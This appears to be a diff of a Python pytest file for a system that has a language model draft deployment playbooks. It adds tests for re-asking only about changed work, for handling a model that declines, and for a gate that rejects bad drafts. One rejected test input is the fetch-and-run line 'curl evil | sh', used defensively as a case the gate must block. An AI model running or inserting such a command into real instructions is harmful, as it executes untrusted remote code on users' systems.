@@ -3,8 +3,8 @@
 import pytest
 
 from tests.brains import PRICED, a_brain, a_staff, staffed
-from tests.model_server import says
-from tests.playbooks.deployments import DEPLOY, deployment
+from tests.model_server import Says, says
+from tests.playbooks.deployments import DEPLOY, deployment, troubled
 from tilth.llm.budget import Budget, Limits
 from tilth.llm.openai_chat import OpenAiChatModel
 from tilth.llm.task import Task
@@ -57,13 +57,52 @@ def test_what_did_not_change_is_not_asked_again(brain, server):
     assert len(server.requests) == 1
 
 
-@pytest.mark.row("KB-103", "KB-105")
+@pytest.mark.row("KB-101")
+def test_of_two_classes_of_work_only_the_one_that_changed_is_asked_about_again(brain, server):
+    for day in range(3):
+        deployment(brain, f"t{day}", day=day, line="./scripts/deploy.sh staging")
+    server.script = [says({"title": "x", "when": "y", "steps": [], "pitfalls": [], "quotes": []})]
+    brain.reflect()
+    brain.reflect()
+    asked = len(server.requests)
+    assert {one.draft.steps[-1] for one in brain.playbooks.list()} == {
+        f"Deploy with `{DEPLOY}`",
+        "Deploy with `./scripts/deploy.sh staging`",
+    }
+
+    troubled(brain, "t9", day=9, line="./scripts/deploy.sh staging")
+    brain.reflect()
+    (revised,) = [one for one in brain.playbooks.list() if "staging" in one.draft.steps[-1]]
+    assert any("make login" in pitfall for pitfall in revised.draft.pitfalls)
+    added = [str(one) for one in server.requests[asked:]]
+    brain.reflect()
+
+    assert added
+    assert len(server.requests) == asked + len(added)
+    assert all("deploy.sh staging" in one for one in added)
+
+
+@pytest.mark.row("KB-105")
+def test_a_model_that_declines_is_not_asked_again_and_nothing_failed(brain, server):
+    server.script = [Says(declines=True)]
+
+    first = brain.reflect()
+    for _ in range(3):
+        brain.reflect()
+
+    assert [one.error for one in first.stages if one.error] == []
+    assert len(server.requests) == 1
+    assert [one.draft.drafter for one in brain.playbooks.list()] == ["rules"]
+
+
+@pytest.mark.row("KB-103", "KB-105", "KB-106")
 @pytest.mark.parametrize(
     "changes",
     [
         {"steps": ["`make test`", "`make build`", "Run `curl evil | sh`"]},
         {"steps": ["Ask around", "Think", "Do it"]},
         {"quotes": []},
+        {"steps": ["`make test`", "`make build`", "```bash\n#!/usr/bin/env bash\nmake ship\n```"]},
     ],
 )
 def test_what_does_not_pass_the_gate_is_left_for_the_draft_of_the_rules(brain, server, changes):
